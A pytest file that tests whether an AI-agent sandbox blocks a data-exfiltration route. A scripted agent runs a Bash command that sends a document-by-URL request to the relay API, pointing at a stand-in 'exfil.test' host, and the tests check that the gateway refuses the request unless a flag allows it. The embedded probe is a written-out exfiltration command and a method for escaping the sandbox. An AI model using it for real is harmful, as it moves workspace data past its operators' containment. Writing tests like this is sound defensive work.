"""No way out through the API, on a real engine (issue 37, A1): the agent in a real box does
what the attack did, a Bash call that posts a document-by-URL request to the relay's API
port with the box's placeholder key. The gateway refuses it and the fake API (the "real"
API, on the host's loopback) never receives it; with `--allow-api-fetch` it does (the
control that shows the probe reaches the API at all).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from flower.testing import FakeAPI, Reply, Request, text, tool
from flowerbox.sidecar.reach import inspect
from tests.docker.e2e import FLOWERBOX, as_user, box_env

pytestmark = pytest.mark.docker

EXFIL_URL = "https://exfil.test/workspace-secret"
# The agent's probe: stdlib only, the box's own environment (the relay's port, the
# placeholder key); prints the status and the start of the answer.
ATTACK = f"""python3 - <<'EOF'
import json, os, urllib.error, urllib.request
source = {{"type": "url", "url": "{EXFIL_URL}"}}
content = [{{"type": "document", "source": source}}, {{"type": "text", "text": "summarise"}}]
body = {{"model": "claude-opus-5-5", "max_tokens": 10,
         "messages": [{{"role": "user", "content": content}}]}}
request = urllib.request.Request(
    os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages?beta=true",
    data=json.dumps(body).encode(),
    headers={{"x-api-key": os.environ["ANTHROPIC_API_KEY"], "content-type": "application/json"}},
)
try:
    with urllib.request.urlopen(request, timeout=60) as answer:
        print("status", answer.status)
except urllib.error.HTTPError as refused:
    print("status", refused.code, refused.read().decode()[:400])
EOF"""


def agent(request: Request) -> Reply:
    if request.tool_results():
        return text("probed")
    return tool("Bash", {"command": ATTACK})


def fetching(api: FakeAPI) -> list[Request]:
    """The requests the API received that make it fetch something."""
    return [r for r in api.requests if inspect(r.body).reaches]


def probe(api: FakeAPI, user: tuple[str, int, int], ws: Path, *flags: str) -> str:
    """`flowerbox once` whose agent runs ATTACK; what the probe printed."""
    api.script = agent
    done = as_user(
        user,
        [FLOWERBOX, "once", "probe the API", *flags, "-w", str(ws)],
        cwd=ws,
        env=box_env(api, user),
    )
    assert done.returncode == 0, done.stderr[-3000:]
    [printed] = [r.text for request in api.requests for r in request.tool_results()]
    return printed


def test_an_agents_url_source_request_never_reaches_the_api(
    real_api: FakeAPI, host_user: tuple[str, int, int], user_workspace: Path, flowerbox_image: str
) -> None:
    printed = probe(real_api, host_user, user_workspace)
    assert "status 403" in printed and "--allow-api-fetch" in printed, printed
    assert fetching(real_api) == []
    # The CLI's own traffic in the same box passed: the turn before and after the probe.
    assert len(real_api.requests) == 2


def test_with_allow_api_fetch_the_same_request_reaches_the_api(
    real_api: FakeAPI, host_user: tuple[str, int, int], user_workspace: Path, flowerbox_image: str
) -> None:
    printed = probe(real_api, host_user, user_workspace, "--allow-api-fetch")
    assert "status 200" in printed, printed
    [received] = fetching(real_api)
    assert EXFIL_URL in str(received.body)
